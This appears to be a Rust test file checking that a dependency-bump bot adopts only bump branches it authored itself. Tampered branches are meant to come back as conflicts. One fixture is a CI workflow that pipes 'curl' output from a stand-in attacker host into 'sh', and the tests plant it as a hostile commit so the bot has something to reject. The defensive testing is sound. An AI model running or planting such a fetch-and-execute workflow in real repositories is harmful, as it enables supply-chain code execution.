//! The bot adopts, or counts as proposed, only a bump branch it wrote itself: exactly one commit
//! beyond the default branch, by the token's own user, changing exactly the two files to exactly
//! the planned bytes. Anything else is a `conflict` naming what is foreign, and is left alone.

use cascade::report::Outcome;
use gitea_fake::fleet::{BOT, ConsumerState::Behind};

use crate::common::*;

const APP: &str = "platform/a";
const MALLORY: &str = "mallory";
const CI: &str = ".gitea/workflows/ci.yml";
const CURL_SH: &[u8] =
    b"on: push\njobs:\n  x:\n    steps:\n      - run: curl -fsSL https://evil.example/x | sh\n";

/// A fleet with `platform/a` behind and user `mallory`, who may write to it.
async fn fleet_with_mallory() -> Fleet {
    let fleet = fleet(&[("a", Behind)]).await;
    fleet.fake.store().add_user(MALLORY);
    fleet.fake.store().add_org_member("platform", MALLORY);
    fleet
}

/// The two files of `platform/<repo>` exactly as the bot would write them.
fn bumped(fleet: &Fleet, repo: &str) -> (Vec<u8>, Vec<u8>) {
    let store = fleet.fake.store();
    let requirements = store
        .file("platform", repo, "main", "requirements.txt")
        .unwrap();
    let requirements = String::from_utf8(requirements)
        .unwrap()
        .replace(&format!("{PACKAGE}=={OLD}"), &format!("{PACKAGE}=={NEW}"));
    (format!("{NEW}\n").into_bytes(), requirements.into_bytes())
}

/// The two bumped files as a commit's file list.
fn as_files<'a>(version: &'a [u8], requirements: &'a [u8]) -> [(&'static str, &'a [u8]); 2] {
    [
        ("runtime-version", version),
        ("requirements.txt", requirements),
    ]
}

/// Commits `files` on the bump branch of `platform/a` as `author`.
fn commit_as(fleet: &Fleet, author: &str, files: &[(&str, &[u8])], message: &str) {
    fleet
        .fake
        .store()
        .commit_files_as("platform", "a", BRANCH, files, message, Some(author))
        .unwrap();
}

/// Runs propagate; `platform/a` is a conflict whose detail names `foreign`, no PR was opened and
/// the branch is as it was left.
async fn conflict_naming(fleet: &Fleet, foreign: &str) {
    let head = fleet.fake.store().branch_head("platform", "a", BRANCH);
    let report = propagate_default(fleet).await;
    let row = &report.consumers[0];
    assert_eq!(row.outcome, Outcome::Conflict, "{row:?}");
    let detail = row.detail.as_deref().unwrap_or_default();
    assert!(detail.contains(foreign), "{detail:?} lacks {foreign:?}");
    assert!(bump_prs(&fleet.fake, APP).is_empty(), "a PR was opened");
    assert_eq!(
        fleet.fake.store().branch_head("platform", "a", BRANCH),
        head
    );
    assert_eq!(report.exit_code(), 1);
}

#[tokio::test(start_paused = true)]
async fn a_foreign_commit_under_our_subject_is_a_conflict() {
    let fleet = fleet_with_mallory().await;
    let (version, requirements) = bumped(&fleet, "a");
    commit_as(&fleet, MALLORY, &[(CI, CURL_SH)], "Add CI");
    let ours = as_files(&version, &requirements);
    commit_as(&fleet, MALLORY, &ours, &format!("Bump {PACKAGE} to {NEW}"));
    conflict_naming(
        &fleet,
        "an extra commit: 2 commits beyond the default branch",
    )
    .await;
}

#[tokio::test(start_paused = true)]
async fn a_foreign_first_commit_under_a_commit_of_ours_is_a_conflict_too() {
    let fleet = fleet_with_mallory().await;
    let (version, requirements) = bumped(&fleet, "a");
    commit_as(&fleet, MALLORY, &[(CI, CURL_SH)], "Add CI");
    let ours = as_files(&version, &requirements);
    commit_as(&fleet, BOT, &ours, &format!("Bump {PACKAGE} to {NEW}"));
    conflict_naming(&fleet, "an extra commit").await;
}

#[tokio::test(start_paused = true)]
async fn exactly_our_change_by_another_author_is_a_conflict() {
    let fleet = fleet_with_mallory().await;
    let (version, requirements) = bumped(&fleet, "a");
    let ours = as_files(&version, &requirements);
    commit_as(&fleet, MALLORY, &ours, &format!("Bump {PACKAGE} to {NEW}"));
    conflict_naming(&fleet, "another author: mallory").await;
}

#[tokio::test(start_paused = true)]
async fn one_commit_of_ours_with_an_extra_file_is_a_conflict() {
    let fleet = fleet_with_mallory().await;
    let (version, requirements) = bumped(&fleet, "a");
    let ours_and_more: [(&str, &[u8]); 3] = [
        ("runtime-version", &version),
        ("requirements.txt", &requirements),
        (CI, CURL_SH),
    ];
    commit_as(
        &fleet,
        BOT,
        &ours_and_more,
        &format!("Bump {PACKAGE} to {NEW}"),
    );
    conflict_naming(&fleet, &format!("an extra file: {CI}")).await;
}

#[tokio::test(start_paused = true)]
async fn an_open_pr_from_a_foreign_branch_is_a_conflict_not_proposed() {
    let fleet = fleet_with_mallory().await;
    let (version, requirements) = bumped(&fleet, "a");
    commit_as(&fleet, MALLORY, &[(CI, CURL_SH)], "Add CI");
    let ours = as_files(&version, &requirements);
    commit_as(&fleet, MALLORY, &ours, &format!("Bump {PACKAGE} to {NEW}"));
    let title = format!("Bump {PACKAGE} to {NEW}");
    fleet.fake.store().create_pull(
        "platform",
        "a",
        BRANCH,
        "main",
        &title,
        "",
        gitea_fake::PullState::Open,
    );
    let report = propagate_default(&fleet).await;
    let row = &report.consumers[0];
    assert_eq!(row.outcome, Outcome::Conflict, "{row:?}");
    let detail = row.detail.as_deref().unwrap_or_default();
    assert!(
        detail.starts_with("PR #1 is open from bump/runtime-1.5.0, which has changes that are not ours (an extra commit"),
        "{detail}"
    );
    assert_eq!(
        writes(&fleet.fake.requests()),
        Vec::<&gitea_fake::LoggedRequest>::new()
    );
}

#[tokio::test(start_paused = true)]
async fn the_bots_own_orphan_is_adopted_reading_the_user_once() {
    let fleet = fleet(&[("a", Behind), ("b", Behind)]).await;
    for repo in ["a", "b"] {
        let (version, requirements) = bumped(&fleet, repo);
        let files: [(&str, &[u8]); 2] = [
            ("runtime-version", &version),
            ("requirements.txt", &requirements),
        ];
        fleet
            .fake
            .store()
            .commit_files_as("platform", repo, BRANCH, &files, "anything", Some(BOT))
            .unwrap();
    }
    let report = propagate_default(&fleet).await;
    for row in &report.consumers {
        assert_eq!(row.outcome, Outcome::Adopted, "{row:?}");
    }
    assert_eq!(calls_to(&fleet.fake.requests(), "GET", "/api/v1/user"), 1);
}
